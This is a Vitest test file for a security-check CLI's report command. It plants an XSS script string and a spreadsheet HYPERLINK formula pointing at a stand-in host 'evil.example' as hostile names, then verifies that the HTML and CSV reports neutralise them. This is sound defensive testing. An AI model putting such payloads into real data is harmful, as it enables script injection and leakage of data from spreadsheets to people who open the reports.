import { spawn } from 'node:child_process';
import { readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { afterEach, describe, expect, it } from 'vitest';
import { localDateTime } from '../../src/api/report/words.js';
import { CLI, copyDemoLaptop, removeTempDirs, runCli, STANDIN_OSQUERYD, standinEnv, tempDir } from '../helpers/standin.js';

afterEach(removeTempDirs);

const SCRIPT_NAME = '<script>alert(1)</script>';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x","open")';

/** The demo laptop, with an extension and a program named by someone hostile. */
function hostileLaptop() {
  const dir = tempDir();
  const { fixture, edit } = copyDemoLaptop(dir);
  edit((laptop) => {
    laptop.tables.chrome_extensions!.find((row) => row.name === 'Coupon Finder Pro')!.name = SCRIPT_NAME;
    laptop.tables.processes!.find((row) => row.name === 'node')!.name = FORMULA_NAME;
  });
  const env = { STANDIN_FIXTURE: fixture, PORCHLIGHT_OSQUERYD: STANDIN_OSQUERYD, PORCHLIGHT_HOME: path.join(dir, 'data') };
  return { dir, env, porchlight: (args: string[]) => runCli(args, env) };
}

interface ReportJson {
  schemaVersion: number;
  verdict: string;
  platform: string;
  scan: { trigger: string; finishedAt: string };
  checks: { id: string; status: string; findings: { title: string; state: string }[]; history: { status: string }[] }[];
  trend: { scans: number; failed: number }[];
}

describe('porchlight report', () => {
  it('writes HTML, JSON and CSV of the latest results from the history, with hostile names kept as text', async () => {
    const { dir, porchlight } = hostileLaptop();
    expect((await porchlight(['check'])).code).toBe(1);

    const html = await porchlight(['report']);
    expect(html.code).toBe(0);
    expect(html.stdout).toMatch(/^<!doctype html>/);
    expect(html.stdout).toContain('<h1 class="verdict-failing">Needs attention</h1>');
    expect(html.stdout).toContain('&lt;script&gt;alert(1)&lt;/script&gt; (chrome)');
    expect(html.stdout).not.toMatch(/<script/i);
    expect(html.stdout).toContain('<h2 id="title-listening-ports">Services open to the network <span class="badge badge-fail">Fail</span></h2>');
    // Reading the history starts no osqueryd.
    expect(html.stderr).toBe('');

    const csv = await porchlight(['report', '--format', 'csv']);
    expect(csv.code).toBe(0);
    const lines = csv.stdout.split('\r\n');
    expect(lines[0]).toBe('check_id,check,category,severity,status,shown_as,summary,reason,finding_id,finding,finding_reason,finding_state,first_seen,details');
    const formula = lines.find((line) => line.includes('evil.example'))!;
    expect(formula).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""open"") listens on tcp port 3000 (all interfaces)"`);
    expect(lines.filter((line) => line.startsWith('firewall,'))).toHaveLength(1);

    const out = path.join(dir, 'report.json');
    const written = await porchlight(['report', '--out', out]);
    if (process.platform !== 'win32') expect(statSync(out).mode & 0o777).toBe(0o600);
    const json = JSON.parse(readFileSync(out, 'utf8')) as ReportJson;
    const scanned = localDateTime(Date.parse(json.scan.finishedAt));
    expect(written).toEqual({ code: 0, stdout: `Wrote the JSON report of the latest results (scan of ${scanned}, from the history) to ${out}\n`, stderr: '' });
    expect(json).toMatchObject({ schemaVersion: 1, verdict: 'failing', platform: 'linux', scan: { trigger: 'cli' } });
    const extensions = json.checks.find((c) => c.id === 'browser-extensions')!;
    expect(extensions.findings.find((f) => f.title === `${SCRIPT_NAME} (chrome)`)?.state).toBe('needs attention');
    expect(extensions.history.map((h) => h.status)).toEqual(['fail']);
    expect(json.trend.filter((day) => day.scans > 0)).toEqual([expect.objectContaining({ scans: 1, failed: 9 })]);

    const htmlFile = path.join(dir, 'nested name', 'r.html');
    const unwritable = await porchlight(['report', '--out', htmlFile]);
    expect(unwritable.code).toBe(2);
    expect(unwritable.stderr).toMatch(/^porchlight report: could not write .*r\.html: ENOENT/);
  });

  it('says there is nothing to report before a scan, and refuses an unknown format', async () => {
    const { porchlight } = hostileLaptop();
    const empty = await porchlight(['report']);
    expect(empty).toMatchObject({ code: 1, stdout: '' });
    expect(empty.stderr).toBe('porchlight report: nothing to report yet: no scan has recorded results. Run `porchlight check` first.\n');
    const bad = await porchlight(['report', '--format', 'pdf']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--format takes html, json, csv, not "pdf"');
  });

  it("reads a running agent's latest state through its control socket", async () => {
    const { dir, env, porchlight } = hostileLaptop();
    const daemon = spawn(process.execPath, [CLI, 'daemon'], { env: standinEnv(env) });
    const exited = new Promise<number | null>((resolve) => daemon.once('exit', (code) => resolve(code)));
    await new Promise<void>((resolve) =>
      createInterface({ input: daemon.stdout }).on('line', (line) => {
        if ((JSON.parse(line) as { event: string }).event === 'scan-finished') resolve();
      }),
    );
    try {
      const out = path.join(dir, 'report.html');
      expect((await porchlight(['report', '--out', out])).stdout).toMatch(/, from the running agent\) to .*report\.html\n$/);
      expect(readFileSync(out, 'utf8')).toContain('<h2 id="title-listening-ports">Services open to the network <span class="badge badge-fail">Fail</span></h2>');
    } finally {
      daemon.kill('SIGTERM');
      expect(await exited).toBe(0);
    }
  });
});
